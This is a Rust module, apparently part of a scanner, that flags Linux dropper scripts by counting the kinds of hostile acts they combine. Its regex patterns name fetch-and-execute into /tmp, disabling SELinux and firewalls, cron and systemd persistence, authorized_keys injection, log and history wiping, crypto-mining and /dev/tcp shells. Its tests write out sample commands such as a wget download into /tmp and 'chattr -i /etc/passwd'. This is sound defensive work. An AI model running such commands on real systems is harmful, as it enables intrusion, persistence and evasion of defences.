//! The kinds of acts that droppers combine.
//!
//! Owns: one pattern for each kind; kinds are counted, not words. Must not own: the counts that
//! make a verdict.

use crate::script::READ;
use crate::signal::Signal;
use crate::table;
use regex::bytes::RegexSet;
use std::sync::LazyLock;

/// Looks at a script.
pub(crate) fn look(bytes: &[u8]) -> Option<Signal> {
    let text = bytes.get(..READ).unwrap_or(bytes);
    let kinds = kinds(text);
    let brings = kinds & BRINGS != 0;
    match kinds.count_ones() {
        7.. if brings => Some(table::DROPPER_SEVEN),
        5.. if brings => Some(table::DROPPER_FIVE),
        4 if brings => Some(table::DROPPER_FOUR),
        _ => None,
    }
}

/// The kinds in this text, a bit for each.
fn kinds(text: &[u8]) -> u32 {
    KINDS.matches(text).into_iter().fold(0, |kinds, number| kinds | 1 << number)
}

/// The first two kinds: without one of them nothing is dropped.
const BRINGS: u32 = 0b11;

/// The patterns are constants and a test uses each; a set that did not compile would find nothing.
static KINDS: LazyLock<RegexSet> = LazyLock::new(|| {
    let kinds = PATTERNS.iter().map(|pattern| format!("(?-u){pattern}"));
    RegexSet::new(kinds).unwrap_or_else(|_| RegexSet::empty())
});

/// One pattern a kind.
const PATTERNS: &[&str] = &[
    // Fetches and makes executable in a place for temporary files.
    r"chmod\s{1,4}(?:\+x|a\+x|u\+x|[0-7]{3,4})\s{1,4}[^\n]{0,40}(?:/tmp/|/dev/shm/|/var/tmp/|/var/run/)",
    // Fetches over the network into a shell or a file.
    r"(?:curl|wget|tftp|lwp-download)\s[^\n]{0,160}(?:https?|ftp)://[^\n]{0,200}(?:\||-O|-o|&&|;|\n)",
    // Takes marks or protection away.
    r"chattr\s{1,4}(?:-R\s{1,4})?-[iaRe]{1,3}\s",
    // Switches defences off.
    r"setenforce\s{1,4}0|SELINUX=disabled|iptables\s{1,4}-F|ufw\s{1,4}disable|(?:systemctl|service)\s[^\n]{0,20}(?:stop|disable)\s{1,4}(?:firewalld|iptables|apparmor|auditd)",
    // Removes agents of cloud providers.
    r"aegis|YunJing|qcloud/|cloudmonitor|aliyun-service|bcm-agent|hostguard",
    // Kills rivals.
    r"(?:pkill|killall)\s{1,4}(?:-9\s{1,4}|-f\s{1,4}){0,2}[^\n]{0,40}(?:xmr|mine|kdev|kinsing|/tmp/|masscan|sysrv|watchd|ddos|stratum)|xargs\s{1,4}(?:-r\s{1,4}|-I\s{0,2}%?\s{1,4}|-n\s?1\s{1,4})?kill\s{1,4}-9",
    // Timers.
    r"crontab\s{1,4}-(?:\s|$|r)|>{1,2}\s{0,4}/(?:var/spool/cron|etc/cron)",
    // Services.
    r"(?:>|cp\s[^\n]{0,80})\s{0,4}/etc/(?:systemd/system/|rc\.local|init\.d/)",
    // Keys of logins.
    r">{1,2}\s{0,4}[^\n]{0,60}authorized_keys",
    // Preloading.
    r"/etc/ld\.so\.preload",
    // Profiles of shells.
    r">>\s{0,3}[^\n]{0,40}(?:\.bashrc|\.profile|\.bash_profile|/etc/profile)",
    // Leaves no history.
    r"history\s{1,3}-c|unset\s{1,3}HISTFILE|HISTFILE=/dev/null|HISTSIZE=0|rm\s[^\n]{0,30}\.bash_history",
    // Empties logs.
    r">\s{0,3}/var/(?:log/(?:wtmp|lastlog|secure|messages|cron|auth\.log|btmp)|spool/mail)",
    // Mines.
    r"xmrig|stratum\+|minerd|kdevtmpfsi|--donate-level|cryptonight",
    // Hidden places.
    r"(?:/dev/shm/|/tmp/|/var/tmp/)\.[a-zA-Z0-9_-]{1,20}",
    // Shells over the network.
    r"/dev/tcp/[^\s]{4}",
    // Spreads over logins.
    r"ssh\s{1,4}[^\n]{0,80}(?:StrictHostKeyChecking=no|BatchMode=yes)[^\n]{0,200}(?:curl|wget|sh\b)",
    // Starts unseen.
    r"nohup\s{1,4}[^\n]{2,120}(?:/tmp/|/dev/shm/|/var/tmp/|\./)[^\n]{0,120}&",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_are_counted_not_words() {
        let same = "#!/bin/sh\n".to_owned() + &"chmod +x /tmp/a\n".repeat(20);
        assert_eq!(kinds(same.as_bytes()).count_ones(), 1);
        assert!(look(same.as_bytes()).is_none());
    }

    #[test]
    fn more_kinds_weigh_more() {
        let acts = [
            "chmod 777 /tmp/.x",
            "\nwget http://192.0.2.1/x -O /tmp/x",
            "\nchattr -i /etc/passwd",
            "\nsetenforce 0",
            "\nhistory -c",
            "\necho x > /etc/cron.d/x",
            "\nnohup /tmp/x &",
        ];
        let first =
            |count| format!("#!/bin/sh\n{}", acts.iter().take(count).copied().collect::<String>());
        assert!(look(first(2).as_bytes()).is_none());
        assert_eq!(look(first(3).as_bytes()).unwrap().id, "dropper-four-kinds");
        assert_eq!(look(first(4).as_bytes()).unwrap().id, "dropper-five-kinds");
        let all = format!("#!/bin/sh\n{}", acts.concat());
        assert_eq!(look(all.as_bytes()).unwrap().id, "dropper-seven-kinds");
    }

    #[test]
    fn removal_without_bringing_is_not_dropping() {
        let text = "setenforce 0\niptables -F\nhistory -c\nchattr -i /a \n> /var/log/wtmp\ncrontab -r\naegis\n/etc/ld.so.preload\n";
        assert!(look(text.as_bytes()).is_none());
    }
}
